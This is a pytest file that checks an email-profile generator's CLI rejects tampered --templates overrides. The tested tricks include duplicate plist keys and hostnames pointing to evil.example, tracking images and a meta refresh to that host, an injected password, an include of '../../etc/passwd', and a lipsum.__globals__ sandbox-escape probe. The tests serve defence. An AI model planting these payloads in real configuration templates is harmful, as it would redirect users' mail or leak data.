"""An admin's `build --templates DIR`, attacked: every template either gives a file that carries exactly the
spec's values (the bytes --verify full gives) or stops the build with one located error line, nothing written."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import main
from generator.render import packaged_templates

SPEC = """\
provider: {id: esempio.it, display_name: Esempio, domains: [esempio.it]}
incoming: {protocol: imap, host: imap.esempio.it, port: 993, security: ssl}
outgoing: {host: smtp.esempio.it, port: 465, security: ssl}
accounts:
  - {name: Mario, email: mario@esempio.it}
"""
PROFILE = "mario@esempio.it/apple/mario@esempio.it.mobileconfig"


def override(tmp_path: Path, name: str, change: Callable[[str], str]) -> Path:
    """A --templates folder holding the packaged template `name`, changed by `change`."""
    folder = tmp_path / "tpl"
    target = folder / name
    target.parent.mkdir(parents=True, exist_ok=True)
    text = (packaged_templates() / name).read_text(encoding="utf-8")
    changed = change(text)
    assert changed != text or change("") == ""  # the test changes what it means to change
    target.write_text(changed, encoding="utf-8")
    return folder


def build(tmp_path: Path, templates: Path | None, *args: str, spec: str = SPEC) -> tuple[int, str]:
    (tmp_path / "spec.yaml").write_text(spec, encoding="utf-8")
    extra = ["--templates", str(templates)] if templates is not None else []
    result = CliRunner().invoke(main, ["build", str(tmp_path / "spec.yaml"), "--out", str(tmp_path / "out"),
                                       *extra, *args])
    assert "Traceback" not in result.output and not isinstance(result.exception, AssertionError)
    return result.exit_code, result.output


# A template may lay the profile out as it likes, but every trick below hides a value from a parser that
# reads the last key, drops text before a nested element, keeps the last root or skips what it does not know
# (line numbers are the rendered profile's: the template's comment block renders to nothing).
PLIST_TRICKS = {
    "key given twice": (
        lambda s: s.replace("\t\t\t<key>IncomingMailServerPortNumber</key>",
                            "\t\t\t<key>IncomingMailServerPortNumber</key>\n\t\t\t<integer>143</integer>\n"
                            "\t\t\t<key>IncomingMailServerPortNumber</key>"),
        "key 'IncomingMailServerPortNumber' given twice at line 22"),
    "element inside a string": (
        lambda s: s.replace("{{ mail.IncomingMailServerHostName|plist_string }}",
                            "<string>evil.example<string/>{{ mail.IncomingMailServerHostName|e }}</string>"),
        "<string> inside <string> at line 19"),
    "unknown element": (
        lambda s: s.replace("{{ mail.IncomingMailServerHostName|plist_string }}",
                            "<string>evil.example<b/>{{ mail.IncomingMailServerHostName|e }}</string>"),
        "<b> is not a plist element at line 19"),
    "a second root value": (
        lambda s: s.replace('<plist version="1.0">\n', '<plist version="1.0">\n<dict><key>PayloadContent</key>'
                            '<array><dict><key>IncomingMailServerHostName</key><string>evil.example</string>'
                            '</dict></array></dict>\n'),
        "a second value in <plist> at line 5"),
    "text between elements": (
        lambda s: s.replace("\t\t\t<key>IncomingMailServerPortNumber</key>",
                            "\t\t\tIncomingMailServerPortNumber 143\n\t\t\t<key>IncomingMailServerPortNumber</key>"),
        "text 'IncomingMailServerPortNumber 143' outside a value at line 20"),
    "text in a boolean": (
        lambda s: s.replace("{{ mail.IncomingMailServerUseSSL|plist_bool }}", "<true>NO</true>"),
        "text 'NO' outside a value at line 23"),
    "a port Python reads and Apple need not": (
        lambda s: s.replace("{{ mail.IncomingMailServerPortNumber|plist_int }}", "<integer>9_93</integer>"),
        "<integer>9_93</integer> is not a number as plists write it at line 21"),
    "a hexadecimal port": (
        lambda s: s.replace("{{ mail.IncomingMailServerPortNumber|plist_int }}", "<integer>0x3E1</integer>"),
        "<integer>0x3E1</integer> is not a number as plists write it at line 21"),
}


@pytest.mark.parametrize("case", sorted(PLIST_TRICKS))
def test_a_profile_template_cannot_hide_a_value_from_the_proof(tmp_path: Path, case: str) -> None:
    change, problem = PLIST_TRICKS[case]
    status, output = build(tmp_path, override(tmp_path, "apple/mobileconfig.xml.j2", change), "--only", "apple")
    assert status == 1, output
    assert output.splitlines()[:2] == [
        f"error: {PROFILE}: the rendered file does not say what the spec says:", f"  not a valid XML plist: {problem}"]
    assert not (tmp_path / "out").exists()


def test_a_template_that_only_lays_out_differently_gives_the_full_paths_bytes(tmp_path: Path) -> None:
    """Windows line endings, other indentation: accepted, and the very bytes of the packaged template's
    build, fast or full (a --templates build always takes the full path)."""
    reference = tmp_path / "reference"
    reference.mkdir()
    assert build(reference, None, "--verify", "full")[0] == 0
    templates = override(tmp_path, "apple/mobileconfig.xml.j2", lambda s: s.replace("\n", "\r\n"))
    override(tmp_path, "thunderbird/user.js.j2", lambda s: s.replace("\n", "\r\n"))
    for verify in ("fast", "full"):
        work = tmp_path / verify
        work.mkdir()
        status, output = build(work, templates, "--verify", verify)
        assert status == 0, output
        for path in (PROFILE, "mario@esempio.it/thunderbird/user.js"):
            assert (work / "out" / path).read_bytes() == (reference / "out" / path).read_bytes()


def refused(tmp_path: Path, template: str, old: str, new: str, only: str) -> list[str]:
    """Build --only `only` with `template` changed (its first `old` replaced by `new`): the build must fail and
    write nothing. The lines it printed."""
    templates = override(tmp_path, template, lambda s: s.replace(old, new, 1))
    status, output = build(tmp_path, templates, "--only", only)
    assert status == 1, output
    assert not (tmp_path / "out").exists()
    return output.splitlines()


# Thunderbird's reader also takes a <password> in a server, <inputField>, <useGlobalPreferredServer> and
# reads a repeated element as a list; the proof read the first copy and skipped what it did not know.
AUTOCONFIG_TRICKS = {
    "a password": ("</hostname>", "</hostname><password>hunter2</password>",
                   "<incomingServer> holds <password>, which the spec does not make"),
    "a second host name": ("</hostname>", "</hostname><hostname>evil.example</hostname>",
                           "<incomingServer> holds <hostname> twice"),
    "an input field": ("</displayShortName>", '</displayShortName><inputField key="X" label="Y"/>',
                       "<emailProvider> holds <inputField>, which the spec does not make"),
    "a second display name": ("</displayShortName>", "</displayShortName><displayName>Evil</displayName>",
                              "<emailProvider> holds <displayName> twice"),
}


@pytest.mark.parametrize("case", sorted(AUTOCONFIG_TRICKS))
def test_an_autoconfig_template_cannot_add_what_the_proof_does_not_read(tmp_path: Path, case: str) -> None:
    old, new, problem = AUTOCONFIG_TRICKS[case]
    output = refused(tmp_path, "thunderbird/config-v1.1.xml.j2", old, new, "thunderbird")
    assert output[:2] == [
        "error: domains/esempio.it/config-v1.1.xml: the rendered file does not say what the spec says:",
        f"  not valid autoconfig XML: {problem}"]


AUTODISCOVER_TRICKS = {
    "a second server first": ("<Server>", "<Server>evil.example</Server><Server>", "<Server> given twice"),
    "a second account first": ("    <Account>", "    <Account><Protocol><Type>IMAP</Type><Server>evil.example"
                               "</Server></Protocol></Account>\n    <Account>", "<Protocol> given twice"),
}


@pytest.mark.parametrize("case", sorted(AUTODISCOVER_TRICKS))
def test_an_autodiscover_template_cannot_hide_a_copy_from_the_proof(tmp_path: Path, case: str) -> None:
    old, new, problem = AUTODISCOVER_TRICKS[case]
    output = refused(tmp_path, "outlook/autodiscover.xml.j2", old, new, "outlook")
    assert [line for line in output if not line.startswith("warning:")][:2] == [
        "error: mario@esempio.it/outlook/autodiscover.xml: the rendered file does not say what the spec says:",
        f"  not a valid autodiscover answer: {problem}"]


def _folder(tmp_path: Path, files: dict[str, str]) -> Path:
    folder = tmp_path / "tpl"
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize(("files", "error"), [
    # A path out of the folder is not a template name: the error names the template that asked, and where.
    ({"apple/mobileconfig.xml.j2": "x\n{% include '../../etc/passwd' %}\n"},
     "template apple/mobileconfig.xml.j2:2: '../../etc/passwd' is neither in --templates nor packaged"),
    ({"apple/mobileconfig.xml.j2": "\n\n{% import 'apple/macros.j2' as m %}\n"},
     "template apple/mobileconfig.xml.j2:3: 'apple/macros.j2' is neither in --templates nor packaged"),
    # The included template's own line, not the includer's.
    ({"apple/mobileconfig.xml.j2": "x\n{% include 'apple/inner.j2' %}\n",
      "apple/inner.j2": "\n\n\n{% include 'apple/gone.j2' %}\n"},
     "template apple/inner.j2:4: 'apple/gone.j2' is neither in --templates nor packaged"),
    ({"apple/mobileconfig.xml.j2": "x\n{% include 'apple/inner.j2' %}\n", "apple/inner.j2": "\n\n{{ 1 // 0 }}\n"},
     "template apple/inner.j2:3: ZeroDivisionError: integer division or modulo by zero — fix this template"),
    ({"apple/mobileconfig.xml.j2": "x\n{% include 'apple/inner.j2' %}\n",
      "apple/inner.j2": "\n{{ lipsum.__globals__ }}\n"},
     "template apple/inner.j2:2: access to attribute '__globals__' of 'function' object is unsafe — fix this "
     "template in the --templates folder"),
])
def test_a_template_that_fails_is_named_with_its_line(tmp_path: Path, files: dict[str, str], error: str) -> None:
    status, output = build(tmp_path, _folder(tmp_path, files), "--only", "apple")
    assert status == 1
    assert output.splitlines()[0].startswith(f"error: {error}"), output
    assert not (tmp_path / "out").exists()


def test_a_guide_template_cannot_print_the_password(tmp_path: Path) -> None:
    """The guide says it never holds the password, and it is written as an ordinary file (not 0600): its
    templates are given the mailbox without one."""
    spec = SPEC.replace("accounts:", "passwords: {include: true, from_env: MP_TEST_PASSWORD}\naccounts:")
    templates = override(tmp_path, "guide/guide.html.j2",
                         lambda s: s.replace("</body>", "<p id='leak'>[{{ mailbox.password }}]</p></body>"))
    override(tmp_path, "guide/guide.txt.j2", lambda s: s + "[{{ mailbox.password }}]\n")
    (tmp_path / "spec.yaml").write_text(spec, encoding="utf-8")
    result = CliRunner(env={"MP_TEST_PASSWORD": "S3cret-Pw"}).invoke(
        main, ["build", str(tmp_path / "spec.yaml"), "--out", str(tmp_path / "out"), "--templates", str(templates),
               "--only", "apple,guide"])
    assert result.exit_code == 0, result.output
    guide = tmp_path / "out" / "mario@esempio.it" / "guide"
    assert "<p id='leak'>[None]</p>" in (guide / "mario@esempio.it.html").read_text(encoding="utf-8")
    assert (guide / "mario@esempio.it.txt").read_text(encoding="utf-8").endswith("[None]\n")
    # The profile, which may hold it, still does (and is the one secret file).
    assert b"S3cret-Pw" in (tmp_path / "out" / PROFILE).read_bytes()
    assert not [p for p in (tmp_path / "out").rglob("*") if p.is_file() and p.suffix != ".mobileconfig"
                and b"S3cret-Pw" in p.read_bytes()]


@pytest.mark.parametrize(("name", "error"), [
    ("apple/mobileconfig.j2", "apple/mobileconfig.j2 is not a template the build uses — did you mean "
                              "apple/mobileconfig.xml.j2? rename it, or move it out of the folder"),
    ("Apple/mobileconfig.xml.j2", "Apple/mobileconfig.xml.j2 is not a template the build uses — did you mean "
                                  "apple/mobileconfig.xml.j2? rename it, or move it out of the folder"),
    ("web/page.html.j2", "web/page.html.j2 is not a template the build uses — name it as the packaged template "
                         "it replaces (templates/ lists them), or move it out of the folder"),
    ("notes.txt", "notes.txt is not a template the build uses — name it as the packaged template it replaces "
                  "(templates/ lists them), or move it out of the folder"),
])
def test_a_file_the_build_would_ignore_is_reported(tmp_path: Path, name: str, error: str) -> None:
    """A misspelt template was silently ignored and the packaged one used in its place."""
    folder = _folder(tmp_path, {name: "<plist version='1.0'><dict/></plist>\n"})
    status, output = build(tmp_path, folder, "--only", "apple")
    assert status == 1
    assert output.splitlines() == [f"error: --templates {folder.resolve()}: {error}", "nothing was written"]
    assert not (tmp_path / "out").exists()


def test_partials_hidden_files_and_a_partly_shadowed_target_are_accepted(tmp_path: Path) -> None:
    """A file one of the build's templates includes is used; so is a packaged partial overridden alone
    (guide/_table.html.j2, included by the packaged guide); hidden files are an editor's or git's."""
    profile = (packaged_templates() / "apple" / "mobileconfig.xml.j2").read_text(encoding="utf-8")
    table = (packaged_templates() / "guide" / "_table.html.j2").read_text(encoding="utf-8")
    folder = _folder(tmp_path, {
        "apple/mobileconfig.xml.j2": "{% include 'apple/_head.j2' %}" + profile.split("\n", 3)[3],
        "apple/_head.j2": profile.split("\n", 3)[0] + "\n" + "\n".join(profile.split("\n", 3)[1:3]) + "\n",
        "guide/_table.html.j2": "{#- ours -#}\n" + table,
        ".DS_Store": "", ".git/config": ""})
    status, output = build(tmp_path, folder, "--only", "apple,guide")
    assert status == 0, output
    reference = tmp_path / "reference"
    reference.mkdir()
    assert build(reference, None, "--only", "apple,guide")[0] == 0
    for path in (PROFILE, "mario@esempio.it/guide/mario@esempio.it.html"):
        assert (tmp_path / "out" / path).read_bytes() == (reference / "out" / path).read_bytes()


GUIDE_TRICKS = {
    "a tracking image": ('<img src="https://evil.example/t.gif?u={{ mailbox.email|urlencode }}">',
                         "<img src='https://evil.example/t.gif?u=mario%40esempio.it'> loads a remote resource"),
    "a scheme-relative image": ('<img src="//evil.example/t.gif">', "<img src='//evil.example/t.gif'> loads a "
                                                                   "remote resource"),
    "a remote background": ('<p style="background: url(\'https://evil.example/x\')">x</p>',
                            "<p style=\"background: url('https://evil.example/x')\"> loads a remote resource"),
    "a style sheet import": ("<style>@import 'https://evil.example/x.css';</style>",
                             "a style sheet that loads a remote resource"),
    "a script": ("<script>document.title = 1</script>", "<script> runs or loads content when the guide is opened"),
    "an event handler": ('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="fetch(1)">',
                         "<img onerror> runs a script"),
    "a refresh to elsewhere": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                               "<meta content='0;url=https://evil.example/'> loads a remote resource"),
    # A first settings table shows the reader other servers; the proof read the last one.
    "a second settings table": ('<table id="settings"><tr data-key="x"><td>imap.evil.example</td></tr></table>',
                                "a second <table id='settings'>"),
}


@pytest.mark.parametrize("case", sorted(GUIDE_TRICKS))
def test_a_guide_template_cannot_load_remote_content_or_show_unproven_settings(tmp_path: Path, case: str) -> None:
    added, problem = GUIDE_TRICKS[case]
    where = "<body>" if case == "a second settings table" else "</body>"
    templates = override(tmp_path, "guide/guide.html.j2", lambda s: s.replace(where, where + added + "\n", 1)
                         if where == "<body>" else s.replace(where, added + "\n" + where, 1))
    status, output = build(tmp_path, templates, "--only", "guide")
    assert status == 1, output
    lines = output.splitlines()
    assert lines[0] == "error: mario@esempio.it/guide/mario@esempio.it.html: the rendered file does not say what " \
                       "the spec says:"
    assert lines[1].startswith("  not readable HTML: line ") and lines[1].endswith(f": {problem}"), lines[1]
    assert not (tmp_path / "out").exists()


def test_a_guide_template_may_link_anywhere(tmp_path: Path) -> None:
    """A link is followed only when the reader clicks it."""
    templates = override(tmp_path, "guide/guide.html.j2",
                         lambda s: s.replace("</body>", '<p><a href="https://intranet.example/mail">Help</a></p>\n'
                                             "</body>"))
    status, output = build(tmp_path, templates, "--only", "guide")
    assert status == 0, output
    html = (tmp_path / "out" / "mario@esempio.it" / "guide" / "mario@esempio.it.html").read_text(encoding="utf-8")
    assert '<a href="https://intranet.example/mail">Help</a>' in html


def _lock_everything_first(s: str) -> str:
    """Every pref locked, then set as the spec asks: the last call of each matches the spec."""
    loop = "{% for section in sections %}"
    return s.replace(loop, loop + "{% for call in section.calls %}\nlockPref({{ call.name|js_value }}, "
                     "{{ call.value|js_value }});\n{% endfor %}", 1)


@pytest.mark.parametrize(("name", "change", "error"), [
    # Thunderbird runs both calls: the pref ends locked where the spec lets the user change it.
    ("thunderbird/mozilla.cfg.j2", _lock_everything_first,
     "mario@esempio.it/thunderbird/mozilla.cfg: the rendered file does not say what the spec says:\n"
     "  line 11, column 1: 'mail.accountmanager.accounts' is set a second time (first at line 3)"),
    ("thunderbird/user.js.j2", lambda s: 'user_pref("mail.server.server1.port", 143);\n' + s,
     "mario@esempio.it/thunderbird/user.js: the rendered file does not say what the spec says:\n"
     "  line 17, column 1: 'mail.server.server1.port' is set a second time (first at line 1)"),
    ("thunderbird/autoconfig.js.j2", lambda s: s + 'pref("general.config.obscure_value", 0);\n',
     "mario@esempio.it/thunderbird/autoconfig.js: the rendered file does not say what the spec says:\n"
     "  line 4, column 1: 'general.config.obscure_value' is set a second time (first at line 3)"),
])
def test_a_prefs_template_cannot_set_a_pref_twice(tmp_path: Path, name: str, change: Callable[[str], str],
                                                   error: str) -> None:
    status, output = build(tmp_path, override(tmp_path, name, change), "--only", "thunderbird")
    assert status == 1, output
    assert output.startswith(f"error: {error}\n")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("name", "only"), [("apple/mobileconfig.xml.j2", "apple"), ("guide/guide.txt.j2", "guide"),
                                            ("thunderbird/config-v1.1.xml.j2", "thunderbird"),
                                            ("outlook/autodiscover.xml.j2", "outlook")])
def test_a_template_that_makes_a_lone_surrogate_is_named(tmp_path: Path, name: str, only: str) -> None:
    """No file can carry U+D800; encoding it was an internal error (exit 70)."""
    templates = override(tmp_path, name, lambda s: "x\n{{ '%c' % 55296 }}\n" + s)
    status, output = build(tmp_path, templates, "--only", only)
    assert status == 1, output
    assert [line for line in output.splitlines() if not line.startswith("warning:")] == [
        f"error: template {name}: output line 2 holds U+D800, a lone surrogate that no UTF-8 or UTF-16 file can "
        "carry — fix this template in the --templates folder", "nothing was written"]
